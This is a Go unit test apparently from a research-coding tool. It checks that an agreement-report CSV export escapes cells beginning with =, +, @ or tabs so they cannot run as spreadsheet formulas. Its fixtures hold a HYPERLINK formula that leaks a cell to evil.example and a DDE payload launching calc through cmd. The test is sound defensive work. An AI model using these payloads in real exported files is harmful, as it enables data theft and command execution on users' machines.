package report

import (
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"themis/coding"
)

// A code named like a formula is written as text; coefficients, negative
// ones included, stay numbers a spreadsheet can compute with.
func TestAgreementCSVCellsCannotRunAsFormulas(t *testing.T) {
	docs := []coding.DocumentLength{{ID: 1, Length: 100}}
	codes := []coding.Code{
		{ID: 1, Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Factor: 9, FactorName: "@SUM(1+1)"},
		{ID: 2, Name: "-2+3+cmd|' /C calc'!A0", Factor: 9, FactorName: "@SUM(1+1)"},
	}
	// Coder A codes 0–50 with code 1, B codes 50–100: worse than chance.
	segs := []coding.Segment{
		{Document: 1, Code: 1, Coder: 1, Start: 0, End: 50}, {Document: 1, Code: 1, Coder: 2, Start: 50, End: 100},
		{Document: 1, Code: 2, Coder: 1, Start: 0, End: 60}, {Document: 1, Code: 2, Coder: 2, Start: 40, End: 100},
	}
	rep := coding.CharacterAgreement(docs, codes, 1, 2, "Aisha", "Ben", segs)
	text, err := AgreementCSV(AgreementTable{Report: rep, CoderA: "Aisha", CoderB: "Ben", Framework: "+Keyes", Factors: 1})
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := recs[0]
	col := map[string]int{}
	for i, h := range header {
		col[h] = i
	}
	negative := false
	for _, r := range recs[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsAny(cell[:1], "=+@\t\r") {
				t.Errorf("%s cell %q could run as a formula", header[i], cell)
			}
			if strings.HasPrefix(cell, "-") {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("%s cell %q could run as a formula", header[i], cell)
				}
			}
		}
		if k := r[col["kappa"]]; strings.HasPrefix(k, "-") {
			negative = true
		}
	}
	if !negative {
		t.Errorf("the fixture has no negative kappa to keep as a number: %q", recs)
	}
	if got := recs[2][col["label"]]; got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("label = %q, want it quoted as text", got)
	}
	if got := recs[1][col["codebook"]]; got != "'+Keyes" {
		t.Errorf("codebook = %q", got)
	}
}
